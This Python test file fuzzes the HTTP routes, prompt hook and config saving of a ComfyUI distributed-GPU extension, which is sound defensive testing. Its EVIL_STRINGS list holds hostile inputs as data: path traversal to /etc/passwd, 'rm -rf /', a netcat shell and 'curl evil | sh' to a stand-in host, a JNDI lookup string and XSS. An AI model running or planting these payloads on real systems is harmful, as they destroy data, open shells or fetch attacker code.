"""Fuzzing: generated requests against every /distributed/ route of a real master, broken workflows
through the prompt hook (in process), and the config file under kill -9.

The route fuzz sends well over a thousand requests (wrong types, huge numbers, nested junk,
path-traversal and shell strings, huge and raw bodies, with and without the shared secret) and
counts the answers: none may be a 5xx, the server must still answer afterwards, the config file
must still be valid, and nothing may be written outside the config's folder and the extension's
logs/. Requests that would have real effects are kept harmless: a worker is only ever "started"
by an id that cannot exist, and a broadcast (interrupt, clear VRAM) is only sent with the test
cluster's own config in place, so it reaches only the test's instances.
"""
from __future__ import annotations

import collections
import json
import os
import random
import re
import signal
import subprocess
import sys
import time
from pathlib import Path
from urllib.parse import quote

import pytest
import requests
from hypothesis import HealthCheck, given, settings
from hypothesis import configuration as hypothesis_configuration
from hypothesis import strategies as st

from distributed_core import config as config_file
from distributed_core import wire

pytestmark = pytest.mark.timeout(600)

REPO = Path(__file__).resolve().parent.parent
REQUESTS_WANTED = 1000

# --- what to send ------------------------------------------------------------------------------

EVIL_STRINGS = [
    "../../etc/passwd", "..", ".", "/etc/passwd", "..\\..\\windows\\system32", "%2e%2e%2fetc%2fpasswd",
    "....//....//etc/passwd", "worker1/../../secret.key", "~root", "C:\\Windows\\win.ini", "nul", "con",
    "; rm -rf /", "$(reboot)", "`id`", "| nc -e /bin/sh evil 1", "&& curl evil | sh", "--cpu; reboot",
    "--listen 0.0.0.0 --port 1", "--output-directory /etc", "'\"", "\x00", "\x00../etc", "\n--cpu",
    "\r\n\r\nGET / HTTP/1.1", "\ud800", "\U0001f600" * 50, "a" * 70, "a" * 300, "x" * 5000,
    "worker1", "worker2", "master", "nobody", "", " ", "null", "true", "0", "-1", "NaN",
    "{{7*7}}", "${jndi:ldap://evil/a}", "<script>alert(1)</script>", "%00", "%ff",
]
IDS = st.one_of(st.sampled_from(EVIL_STRINGS[:40] + ["worker1", "worker2", "worker3", "x-y_z"]),
                st.text(max_size=30),
                st.from_regex(r"[A-Za-z0-9_-]{1,64}", fullmatch=True))
NUMBERS = st.one_of(
    st.integers(), st.integers(min_value=-(2 ** 70), max_value=2 ** 70),
    st.sampled_from([0, -1, 1, 65535, 65536, 1023, 1024, 2 ** 31, 2 ** 63, 2 ** 64 + 1, 10 ** 30, -(10 ** 30)]),
    st.floats(allow_nan=True, allow_infinity=True), st.sampled_from([1e308, -1e308, 1e-308, 0.5, 86400.5]),
)
STRINGS = st.one_of(st.sampled_from(EVIL_STRINGS), st.text(max_size=50))
SCALARS = st.one_of(st.none(), st.booleans(), NUMBERS, STRINGS)
JUNK = st.recursive(SCALARS, lambda inner: st.one_of(st.lists(inner, max_size=5),
                                                    st.dictionaries(STRINGS, inner, max_size=5)),
                    max_leaves=25)
ANY_VALUE = st.one_of(SCALARS, JUNK)

WORKER_KEYS = ["name", "host", "port", "device", "enabled", "extra_args"]
GOOD_WORKER_VALUES = {
    "name": st.sampled_from(["box", "GPU 1", ""]),
    "host": st.sampled_from(["127.0.0.1", "localhost", "::1", "10.255.255.1", "example.invalid", "0.0.0.0"]),
    "port": st.integers(min_value=1, max_value=65535),
    "device": st.one_of(st.none(), st.integers(min_value=0, max_value=1023)),
    "enabled": st.booleans(),
    "extra_args": st.sampled_from(["", "--lowvram", "--preview-method auto", "--cpu --disable-xformers"]),
}


def worker_fields():
    """Worker field dicts: good values, junk, evil strings, and now and then a field that does not exist."""
    value_for = {k: st.one_of(GOOD_WORKER_VALUES[k], ANY_VALUE) for k in WORKER_KEYS}
    fields = st.fixed_dictionaries({}, optional=value_for)
    extra = st.dictionaries(st.sampled_from(["id", "colour", "__proto__", "../x", "port "]), ANY_VALUE, max_size=2)
    return st.one_of(fields, st.builds(lambda a, b: {**a, **b}, fields, extra))


def config_bodies():
    section = st.one_of(st.dictionaries(st.sampled_from(["port", "device", "enabled", "host", "mode",
                                                          "stagger_delay", "job_timeout", "nonsense"]),
                                        ANY_VALUE, max_size=5), ANY_VALUE)
    workers = st.one_of(st.lists(st.one_of(worker_fields(), st.builds(lambda w, i: {**w, "id": i}, worker_fields(), IDS),
                                           ANY_VALUE), max_size=4), ANY_VALUE)
    return st.fixed_dictionaries({}, optional={"master": section, "workers": workers, "settings": section,
                                               "extra": ANY_VALUE})


def result_frames():
    """Bodies for /distributed/result: raw junk, and frames with the right magic and a junk header."""
    def frame(header, payload, declared):
        data = json.dumps(header, allow_nan=True).encode("utf-8", "surrogatepass")
        size = len(data) if declared is None else declared
        return wire.MAGIC + (size % (1 << 32)).to_bytes(4, "big") + data + payload
    header = st.one_of(
        JUNK,
        st.fixed_dictionaries({"job": STRINGS, "collector": STRINGS, "unit": NUMBERS, "token": STRINGS,
                               "dtype": st.sampled_from(["uint8", "float32", "float16", "int64", "object"]),
                               "shape": st.one_of(st.lists(NUMBERS, max_size=5), JUNK)},
                              optional={"count": NUMBERS}))
    return st.builds(frame, header, st.binary(max_size=256),
                     st.one_of(st.none(), st.integers(min_value=0, max_value=(1 << 32) - 1)))


# Bodies every JSON route is sent at least once (besides the generated ones).
NASTY_BODIES = [b"", b"{", b"null", b"[]", b"\"x\"", b"NaN", b"-Infinity", b"1e999999", b"\xff\xfe{\x00}\x00",
                b"\xef\xbb\xbf{}", b"{\"a\": " * 5 + b"1" + b"}" * 5, b"9" * 5000,
                b"[" * 100_000 + b"]" * 100_000, b"{\"a\":" * 50_000 + b"1" + b"}" * 50_000,
                b"[" * 5_000 + b"]" * 5_000, b"{\"name\": " + b"[" * 3_000 + b"]" * 3_000 + b"}",
                b"\"" + b"x" * (1 << 20) + b"\"", b" " * ((1 << 20) + 10), b"\x00" * 1000,
                b"{\"port\": 1" + b"0" * 5000 + b"}", b"{\"name\": \"\\ud800\"}", b"{\"port\": 1e400}"]
# just under json's nesting limit, inside fields whose error messages quote the value back
NASTY_BODIES += [b"{\"port\": " + b"[" * d + b"]" * d + b", \"master\": {\"port\": " + b"[" * d + b"]" * d + b"}}"
                 for d in (800, 900, 930, 950, 970)]


def raw_bodies():
    return st.one_of(st.binary(max_size=512), st.sampled_from(NASTY_BODIES), result_frames())


def json_bodies():
    return st.one_of(worker_fields(), config_bodies(), ANY_VALUE)


# (method, path template); {id} is filled with a generated worker id. Every method is tried on every
# path, so wrong methods (405) are covered too.
PATHS = ["/distributed/config", "/distributed/status", "/distributed/clear_vram", "/distributed/interrupt",
         "/distributed/gpus", "/distributed/workers", "/distributed/workers/{id}",
         "/distributed/workers/{id}/start", "/distributed/workers/{id}/stop", "/distributed/workers/{id}/log",
         "/distributed/result", "/distributed/secret", "/distributed/tiles/image", "/distributed/tiles/lease",
         "/distributed/tiles/result", "/distributed/check", "/distributed/reach_back", "/distributed/spread",
         "/distributed/spread/result", "/distributed/relay"]  # the upload routes of old too: gone now
METHODS = ["GET", "POST", "PATCH", "DELETE", "PUT", "HEAD", "OPTIONS"]
ROUTES = [("GET", "/distributed/config"), ("POST", "/distributed/config"), ("GET", "/distributed/status"),
          ("GET", "/distributed/secret"), ("POST", "/distributed/clear_vram"), ("POST", "/distributed/interrupt"),
          ("GET", "/distributed/relay"), ("GET", "/distributed/gpus"), ("POST", "/distributed/workers"),
          ("PATCH", "/distributed/workers/{id}"), ("DELETE", "/distributed/workers/{id}"),
          ("POST", "/distributed/workers/{id}/start"), ("POST", "/distributed/workers/{id}/stop"),
          ("GET", "/distributed/workers/{id}/log"), ("POST", "/distributed/check"), ("GET", "/distributed/spread")]
ACCESS = ["none", "secret", "wrong-secret", "same-origin-fetch", "same-origin", "other-origin"]


@st.composite
def fuzz_requests(draw):
    if draw(st.integers(0, 9)) < 7:  # mostly a route that exists, so the handlers see the junk
        method, path = draw(st.sampled_from(ROUTES))
    else:
        method, path = draw(st.sampled_from(METHODS)), draw(st.sampled_from(PATHS))
    worker_id = draw(IDS)
    encode = draw(st.sampled_from(["quote", "quote", "raw"]))
    kind = draw(st.sampled_from(["none", "json", "json", "json", "raw", "raw"]))
    body = None
    if kind == "json":
        body = json.dumps(draw(json_bodies()), allow_nan=True).encode("utf-8", "surrogatepass")
    elif kind == "raw":
        body = draw(raw_bodies())
    query = ""
    if path.endswith("/log") or draw(st.integers(0, 19)) == 0:
        query = "?lines=" + url_text(str(draw(st.one_of(NUMBERS, STRINGS))))
    return {"method": method, "path": path, "id": worker_id, "encode": encode, "body": body, "query": query,
            "access": draw(st.sampled_from(["secret"] * 5 + ACCESS)), "api_prefix": draw(st.integers(0, 4)) == 0,
            "content_type": draw(st.sampled_from(["application/json", "application/json", "text/plain",
                                                  wire.CONTENT_TYPE, None]))}


def url_text(text: str, raw: bool = False) -> str:
    """Percent-encoded for a URL; ``raw`` leaves '/', '.', and shell characters as they are (so that
    ../ really is a path segment), encoding only what cannot be sent at all."""
    return quote(text.encode("utf-8", "surrogatepass"), safe="/.;$&'()*+,=:@~!`|{}<>\"[]^\\" if raw else "")


def access_headers(access: str, master) -> dict[str, str]:
    return {"none": {}, "secret": master.auth(), "wrong-secret": {"X-Distributed-Secret": "guess" * 8},
            "same-origin-fetch": {"Sec-Fetch-Site": "same-origin"}, "same-origin": {"Origin": master.url},
            "other-origin": {"Origin": "http://evil.example"}}[access]


OUR_ROUTES = re.compile(r"/distributed/(config|status|clear_vram|interrupt|gpus|workers|secret|check|relay|spread"
                        r"|workers/[^/]+|workers/[^/]+/(start|stop|log))")


def reaches_our_handlers(url_path: str, api_routes: bool) -> bool:
    """Whether the server routes this path to one of our handlers (others fall through to ComfyUI's
    static files, whose 5xx on, say, a 5000-character name is ComfyUI's and aiohttp's business)."""
    path = url_path.split("?", 1)[0]
    if path.startswith("/api/"):
        if not api_routes:
            return False
        path = path[4:]
    return bool(OUR_ROUTES.fullmatch(path))


def cannot_exist(worker_id: str) -> bool:
    """An id no config can hold (ids are [A-Za-z0-9_-] only), so starting it starts nothing."""
    return not worker_id or not set(worker_id) <= set(
        "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_")


# --- what may change on disk ---------------------------------------------------------------------

def files_under(root: Path, skip: set[str]) -> set[Path]:
    found = set()
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d not in skip and d != "__pycache__"]
        found.update(Path(folder) / f for f in files)
    return found


def disk_snapshot(live, own: Path) -> dict[str, set[Path]]:
    basetemp = live.workdir.parent
    snapshot = {
        # the ComfyUI tree, the instances' folders and every other folder of this test session
        # (but this test's own folder, where hypothesis keeps its caches)
        "session": {p for p in files_under(basetemp, set()) if own not in p.parents},
        # the extension itself (others may be editing its sources: only folders no edit belongs in)
        "extension": files_under(REPO, {".git", "logs", "tests", "web", ".pytest_cache", "example_workflows"}),
    }
    if basetemp.parent.name.startswith("pytest-of-"):
        # the folder above the session's (other sessions come and go there: only non-pytest names)
        snapshot["above"] = {p for p in basetemp.parent.iterdir() if not p.name.startswith("pytest-")}
    return snapshot


def unexpected_files(before: dict, after: dict, live) -> list[str]:
    config_dir = live.config_path.parent
    new = []
    for key in before:
        for path in sorted(after[key] - before[key]):
            if path.parent == config_dir:  # the config's folder: the config, its backups, throughput.json
                continue
            new.append(str(path))
    return new


# --- the route fuzz --------------------------------------------------------------------------------

def test_fuzz_every_route(live, tmp_path):
    master = live.master
    default_config = live.default_config()
    statuses: collections.Counter = collections.Counter()
    per_route: collections.Counter = collections.Counter()
    server_errors: list[str] = []
    not_ours: list[str] = []  # 5xx from ComfyUI's own routes (paths none of our handlers serves)
    no_answer: list[str] = []
    api_routes = master.get("/api/distributed/config").status_code == 200  # ComfyUI >= mid 2024 mirrors routes
    passwd_mtime = os.stat("/etc/passwd").st_mtime if os.path.exists("/etc/passwd") else None
    before = disk_snapshot(live, tmp_path)
    session = requests.Session()
    hypothesis_configuration.set_hypothesis_home_dir(tmp_path / "hypothesis")  # keep .hypothesis out of the repo

    def send(req: dict) -> None:
        worker_id = req["id"]
        authorized = req["access"] in ("secret", "same-origin-fetch", "same-origin")
        path = req["path"]
        if authorized and req["method"] == "POST" and path.endswith("/start") and not cannot_exist(worker_id):
            worker_id = "no.such." + worker_id  # never start a real process
        if authorized and req["method"] == "POST" and path in ("/distributed/interrupt", "/distributed/clear_vram"):
            live.reset_config(default_config)  # broadcast to the test's own instances only
        elif _worker_count(live) > 24:
            live.reset_config(default_config)  # keep every status probe short
        ident = url_text(worker_id, raw=req["encode"] == "raw")
        url_path = ("/api" if req["api_prefix"] else "") + path.replace("{id}", ident) + req["query"]
        headers = access_headers(req["access"], master)
        if req["content_type"] and req["body"] is not None:
            headers["Content-Type"] = req["content_type"]
        what = f"{req['method']} {url_path[:120]} ({req['access']}, body {len(req['body'] or b'')} bytes: " \
               f"{(req['body'] or b'')[:120]!r})"
        try:
            prepared = requests.Request(req["method"], master.url + "/", headers=headers, data=req["body"]).prepare()
            prepared.url = master.url + url_path  # as generated: no client-side normalisation of the path
            resp = session.send(prepared, timeout=120)
        except requests.RequestException as exc:
            no_answer.append(f"{what}: {exc!r}")
            statuses["no answer"] += 1
            return
        statuses[resp.status_code] += 1
        per_route[(req["method"], path)] += 1
        if resp.status_code >= 500:
            line = f"{resp.status_code} for {what}: {resp.text[:200]}"
            (server_errors if reaches_our_handlers(url_path, api_routes) else not_ours).append(line)

    @settings(max_examples=REQUESTS_WANTED + 100, deadline=None, database=None, derandomize=False,
              suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                     HealthCheck.data_too_large, HealthCheck.large_base_example])
    @given(req=fuzz_requests())
    def fuzz(req):
        send(req)

    began = time.monotonic()
    # first every nasty body once on every route that reads JSON, then the generated requests
    for method, path in ROUTES:
        if method in ("POST", "PATCH") and not path.endswith(("/start", "/stop", "/result", "interrupt", "clear_vram")):
            for body in NASTY_BODIES:
                send({"method": method, "path": path, "id": "worker1", "encode": "quote", "body": body, "query": "",
                      "access": "secret", "api_prefix": False, "content_type": "application/json"})
    for worker_id in ["a" * 255, "a" * 256, "x" * 5000]:  # ids too long to be a file name
        for method, path in [("GET", "/distributed/workers/{id}/log"), ("PATCH", "/distributed/workers/{id}"),
                             ("DELETE", "/distributed/workers/{id}"), ("POST", "/distributed/workers/{id}/stop")]:
            send({"method": method, "path": path, "id": worker_id, "encode": "quote", "body": b"{}", "query": "",
                  "access": "secret", "api_prefix": False, "content_type": "application/json"})
    try:
        fuzz()
    finally:
        hypothesis_configuration.set_hypothesis_home_dir(None)
    total = sum(statuses.values())
    print(f"\n[fuzz] {total} requests in {time.monotonic() - began:.0f} s; status codes: "
          + ", ".join(f"{code}: {n}" for code, n in sorted(statuses.items(), key=lambda kv: str(kv[0]))))
    print(f"[fuzz] routes hit: {len(per_route)} (method, path) pairs; 5xx from our handlers: {len(server_errors)}, "
          f"from ComfyUI's own routes (not counted): {len(not_ours)}")
    for line in not_ours[:3]:
        print(f"[fuzz]   not ours: {line[:200]}")

    # still up, and its state intact
    assert master.get("/system_stats").status_code == 200
    assert master.get("/distributed/status", timeout=60).status_code == 200
    text = live.config_path.read_text(encoding="utf-8")
    config_file.parse(json.loads(text))  # raises on an invalid config
    assert config_file.load(live.config_path).error == ""
    leftovers = [p.name for p in live.config_path.parent.glob(f".{live.config_path.name}.*.tmp")]
    written = unexpected_files(before, disk_snapshot(live, tmp_path), live)
    if passwd_mtime is not None:
        assert os.stat("/etc/passwd").st_mtime == passwd_mtime
    live.reset_config(default_config)

    assert total >= REQUESTS_WANTED, f"only {total} requests were sent"
    assert not no_answer, f"{len(no_answer)} requests got no answer:\n" + "\n".join(no_answer[:10])
    assert not server_errors, f"{len(server_errors)} answers were 5xx:\n" + "\n".join(server_errors[:15])
    assert not written, f"files written outside the config's folder and logs/: {written[:20]}"
    assert not leftovers, f"temporary config files left behind: {leftovers}"


def _worker_count(live) -> int:
    try:
        return len(json.loads(live.config_path.read_text()).get("workers", []))
    except (OSError, ValueError, AttributeError):
        return 0


# --- the prompt hook ---------------------------------------------------------------------------------

PROMPTS_WANTED = 3000


def _as_dict(value) -> dict:
    return value if isinstance(value, dict) else {}


@st.composite
def spoiled_prompts(draw):
    """The model-free test workflow (or the split one) with a few things broken in it."""
    from harness import image_workflow, split_workflow
    prompt = (split_workflow(batch=draw(st.integers(1, 4))) if draw(st.booleans())
              else image_workflow(seed=draw(st.integers(0, 250)), batch=1))
    for _ in range(draw(st.integers(1, 3))):
        op = draw(st.sampled_from(["inputs", "input", "class", "node", "collector", "field", "link", "cycle",
                                   "batch", "extra", "value"]))
        nid = draw(st.sampled_from(sorted(prompt)))
        node = prompt[nid] if isinstance(prompt.get(nid), dict) else {}
        inputs = node.get("inputs") if isinstance(node.get("inputs"), dict) else None
        if op == "inputs":
            node["inputs"] = draw(ANY_VALUE)
        elif op == "input" and inputs is not None:
            inputs[draw(st.sampled_from(sorted(inputs) + ["images", "_distributed"]))] = draw(ANY_VALUE)
        elif op == "class":
            node["class_type"] = draw(st.one_of(st.sampled_from(["MultiGPUCollector", "DistributedSeed",
                                                                 "DistributedEmptyLatent", "SaveImage"]), ANY_VALUE))
        elif op == "node":
            prompt[nid] = draw(ANY_VALUE)
        elif op == "collector":
            prompt[draw(st.sampled_from(["6", "7", nid]))] = {
                "class_type": "MultiGPUCollector",
                "inputs": draw(st.one_of(st.just({"images": ["3", 0]}), st.just({"images": ["4", 0]}), ANY_VALUE))}
        elif op == "field" and inputs is not None:  # pretend it was rewritten already
            inputs["_distributed"] = draw(st.one_of(
                st.builds(lambda d: json.dumps(d, allow_nan=True), JUNK),
                st.sampled_from(['{"role": "master", "job": "nope", "collector": "4", "units": [0]}',
                                 '{"role": "error", "error": "x"}', '{"role": "worker"}', '{"units": "all"}',
                                 '{"units": [[0, 1000000]]}', '{"chunks": [[0, -5]], "seeds": [1]}'])))
        elif op == "link" and inputs is not None and inputs:
            inputs[draw(st.sampled_from(sorted(inputs)))] = [draw(st.one_of(st.sampled_from(["99", nid, "-1"]), STRINGS)),
                                                            draw(st.one_of(st.integers(-2, 3), ANY_VALUE))]
        elif op == "cycle" and isinstance(prompt.get("2"), dict):
            prompt["2"]["inputs"] = {**_as_dict(prompt["2"].get("inputs")), "images": ["4", 0], "color": ["4", 0]}
        elif op == "batch" and "1" in prompt and isinstance(prompt["1"], dict):
            prompt["1"]["inputs"] = {**_as_dict(prompt["1"].get("inputs")), "batch_size": draw(NUMBERS)}
        elif op == "extra":
            prompt[draw(STRINGS)] = draw(ANY_VALUE)
        elif op == "value" and isinstance(prompt.get("2"), dict):  # a Distributed Value with junk in it
            prompt["9"] = {"class_type": "DistributedValue",
                           "inputs": {"default": draw(st.one_of(STRINGS, ANY_VALUE)),
                                      "values": draw(st.one_of(st.builds(lambda rows: "\n".join(rows), st.lists(
                                          st.builds(lambda a, b: f"{a}: {b}", st.sampled_from(
                                              ["master", "worker1", "worker2", "worker9", ""]), STRINGS), max_size=4)),
                                          ANY_VALUE))}}
            prompt["2"]["inputs"] = {**_as_dict(prompt["2"].get("inputs")), "color": ["9", 0]}
    return prompt if draw(st.integers(0, 19)) else draw(ANY_VALUE)


def _hook_runtime(tmp_path):
    from runtimes import make_runtime

    config = config_file.parse({"master": {"port": 18188}, "settings": {"job_timeout": 30},
                                "workers": [{"id": "worker1", "port": 18189}, {"id": "worker2", "port": 18190}]})
    runtime = make_runtime(config, tmp_path)
    specs = {("EmptyImage", "color"): ("INT", {"default": 0, "min": 0, "max": 0xFFFFFF}),
             ("EmptyImage", "width"): ("INT", {"default": 512, "min": 1, "max": 16384})}
    runtime.input_spec = lambda class_type, name: specs.get((class_type, name))
    return runtime


def _rewrite(runtime, prompt) -> tuple[dict | None, BaseException | None, list[str], set[str]]:
    """Run the hook as ComfyUI's POST /prompt does, inside the middleware's context: the rewritten
    request (or the exception), the jobs handed to the middleware, and jobs registered but not handed on."""
    from distributed_core import runtime as runtime_module
    store = runtime.collectors.store
    before = {job.id for job in store.active()} | {job.id for job in runtime.upscales.board.active()}
    pending: list = []
    token = runtime_module.submitted.set(pending)
    result, error = None, None
    try:
        result = runtime.rewrite({"prompt": prompt, "client_id": "fuzz"})
    except Exception as exc:  # noqa: BLE001 - what the hook lets out is the finding
        error = exc
    finally:
        runtime_module.submitted.reset(token)
    handed = [job_id for _kind, job_id in pending]
    orphans = ({job.id for job in store.active()} | {job.id for job in runtime.upscales.board.active()}) \
        - before - set(handed)
    for kind, job_id in pending:  # what the middleware does when the master refuses the prompt
        kind.drop(job_id, "fuzz")
    for job_id in orphans:
        runtime.collectors.drop(job_id, "fuzz")
        runtime.upscales.drop(job_id, "fuzz")
    return result, error, handed, orphans


def _where(exc: BaseException) -> str:
    import traceback
    frame = traceback.extract_tb(exc.__traceback__)[-1]
    return f"{type(exc).__name__} at {Path(frame.filename).name}:{frame.lineno}"


def _tame_batch_sizes(value):
    """Batch sizes from about 1e5 to 2**61 would make the hook (as it is) build a list that size
    and could exhaust this machine's memory (see the test below): keep them just over the maximum."""
    if isinstance(value, dict):
        for key, item in value.items():
            if key == "batch_size" and isinstance(item, int) and not isinstance(item, bool) and 10 ** 5 < item < 2 ** 61:
                value[key] = 4097 + item % 1000
            else:
                _tame_batch_sizes(item)
    elif isinstance(value, list):
        for item in value:
            _tame_batch_sizes(item)


def test_fuzz_the_prompt_hook(tmp_path):
    """The hook ComfyUI calls on every POST /prompt, fed broken distributed workflows in process.

    (Not through a real ComfyUI: the 2024 ComfyUI's own execution thread dies on some junk that
    passes its partial validation, such as a cycle or a node whose inputs are not an object, which
    would take the session's master down.) ComfyUI logs and ignores an exception from the hook, so
    a crash there is not fatal, but one after the job was registered leaves a job that nothing
    starts or ends: the panel shows it for ever and it holds the result budget's "oldest job" slot.
    The hook must never raise, and every job it registers must be handed to the middleware."""
    runtime = _hook_runtime(tmp_path)
    raised: dict[str, str] = {}
    leaked: dict[str, str] = {}
    outcomes: collections.Counter = collections.Counter()
    hypothesis_configuration.set_hypothesis_home_dir(tmp_path / "hypothesis")

    @settings(max_examples=PROMPTS_WANTED, deadline=None, database=None,
              suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example])
    @given(prompt=spoiled_prompts())
    def fuzz(prompt):
        _tame_batch_sizes(prompt)
        _result, error, pending, orphans = _rewrite(runtime, prompt)
        outcomes[_where(error) if error else ("planned" if pending else "left alone")] += 1
        example = json.dumps(prompt, allow_nan=True)[:400]
        if error is not None:
            raised.setdefault(_where(error), f"{error} for {example}")
        if orphans:
            leaked.setdefault(_where(error) if error else "no exception", example)

    try:
        fuzz()
    finally:
        hypothesis_configuration.set_hypothesis_home_dir(None)
    print(f"\n[fuzz] prompt hook: {sum(outcomes.values())} prompts: "
          + ", ".join(f"{k}: {n}" for k, n in outcomes.most_common()))
    assert not leaked, "the hook registered jobs that nothing will ever start or end:\n" + \
        "\n".join(f"{where}: {example}" for where, example in leaked.items())
    assert not raised, "the hook raised (ComfyUI logs it as [ERROR] and runs the prompt unrewritten):\n" + \
        "\n".join(f"{where}: {example}" for where, example in raised.items())


def test_prompt_hook_leaves_no_job_behind_when_a_node_is_not_an_object(tmp_path):
    """The shortest case the fuzz finds: a valid distributed workflow plus one node that is not an
    object. The hook registers the job, then fails rewriting the seed nodes, and the job stays."""
    from harness import image_workflow
    runtime = _hook_runtime(tmp_path)
    prompt = image_workflow(seed=1, batch=1)
    prompt["9"] = 5
    _result, error, _pending, orphans = _rewrite(runtime, prompt)
    assert not orphans, f"a job was left registered ({_where(error) if error else 'no exception'})"
    assert error is None, f"the hook raised {_where(error)}: {error}"


@pytest.mark.parametrize("batch_size", [4097, 2 ** 62, 10 ** 30])
def test_prompt_hook_refuses_a_split_batch_beyond_the_nodes_maximum(tmp_path, batch_size):
    """Distributed Empty Latent's batch_size is at most 4096, but the hook runs before ComfyUI's
    validation and plans the batch it is given: one list entry per image. batch_size 10**9 costs
    the master tens of GB (the OS kills it), so anyone who can POST /prompt can take the master
    down. (Values that would allocate for real are not tried here; these fail at once.)"""
    from harness import split_workflow
    runtime = _hook_runtime(tmp_path)
    prompt = split_workflow(batch=2)
    prompt["1"]["inputs"]["batch_size"] = batch_size
    from distributed_core import runtime as runtime_module
    reasons: list[str] = []
    token = runtime_module.refused.set(reasons)
    try:
        result, error, pending, orphans = _rewrite(runtime, prompt)
    finally:
        runtime_module.refused.reset(token)
    assert error is None, f"the hook raised {_where(error)}: {error}"
    assert not pending and not orphans, "a job was planned for a batch beyond the node's maximum"
    # refused before anything renders: POST /prompt answers 400 with the reason
    assert "prompt" not in result and len(reasons) == 1 and "batch_size" in reasons[0], (result, reasons)


# --- the config file under kill -9 -------------------------------------------------------------------

SAVER = r"""
import sys
sys.path.insert(0, sys.argv[1])
from pathlib import Path
from distributed_core import config
path = Path(sys.argv[2])
a = config.parse({"master": {"port": 8188}, "workers": [{"id": "w1", "port": 8189, "name": "first"}],
                  "settings": {"mode": "parallel", "job_timeout": 60}})
b = config.parse({"master": {"port": 9000, "enabled": False},
                  "workers": [{"id": f"w{i}", "port": 9001 + i, "name": "x" * 60, "extra_args": "--lowvram"}
                              for i in range(40)],
                  "settings": {"mode": "staggered", "stagger_delay": 1.5}})
print("ready", flush=True)
n = 0
while True:
    config.save(b if n % 2 else a, path)
    n += 1
"""


def test_config_survives_kill_9_mid_save(tmp_path):
    path = tmp_path / "gpu_config.json"
    config_file.save(config_file.parse({"workers": [{"id": "w1", "port": 8189}]}), path)
    rng = random.Random(20240611)
    seen = collections.Counter()
    for attempt in range(100):
        child = subprocess.Popen([sys.executable, "-c", SAVER, str(REPO), str(path)],
                                 stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        try:
            assert child.stdout.readline().strip() == "ready", child.stderr.read()
            time.sleep(rng.uniform(0, 0.05))
            child.send_signal(signal.SIGKILL)
            child.wait(30)
        finally:
            if child.poll() is None:
                child.kill()
                child.wait(30)
            child.stdout.close()
            child.stderr.close()
        loaded = config_file.load(path)
        assert loaded.error == "", f"attempt {attempt}: {loaded.error}"
        seen[loaded.config.master.port] += 1
    broken = [p.name for p in tmp_path.glob("*.broken-*")]
    temps = [p.name for p in tmp_path.glob(".gpu_config.json.*.tmp")]
    print(f"\n[fuzz] kill -9 mid-save: 100 kills, file always valid; last saved config per kill: "
          f"{dict(seen)}; temporary files left by the kills: {len(temps)}")
    assert not broken, f"a valid file was set aside as broken: {broken}"
    assert len(seen) == 2, "the kills should land both before and after saves of each config"
